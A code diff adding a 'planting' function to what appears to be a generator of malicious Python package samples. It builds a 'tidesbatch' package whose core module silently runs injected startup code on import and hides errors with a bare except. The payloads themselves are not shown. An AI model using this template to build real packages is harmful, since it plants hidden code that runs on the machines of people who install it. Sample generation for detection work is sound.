@@ -15,6 +15,7 @@ __all__ = [
     "fetching",
     "hiding",
     "hooking",
+    "planting",
     "stealing",
     "useful",
 ]
@@ -158,6 +159,17 @@ def hooking(hook: Row, act: Row) -> Built:
         text, _ = _written(text, {"ACT": lambda _: act.code})
         files[name] = text.replace("IMPORTS", act.imports).replace("TAIL", TAIL)
     return (sdist if hook.address == "sdist" else wheel)("tides-batch", files)
+
+
+def planting(startup: Row, command: Row) -> Built:
+    """A package that has a command started again and again, once somebody imports it."""
+    code = f"def keep():\n{indented(startup.code)}\n\n\ntry:\n    keep()\nexcept Exception:\n    pass\n"
+    files = {
+        "__init__": f"from .core import *\n{TAIL}",
+        "core": f"{imports(command.imports, startup.imports)}\n\n{command.code}\n\n\n{code}",
+        "agent": "import time\n\nwhile True:\n    time.sleep(60)\n",
+    }
+    return useful({f"tidesbatch/{name}.py": text for name, text in files.items()})
 
 
 def _written(way: str, parts: dict[str, Callable[[str], str]]) -> tuple[str, str]:
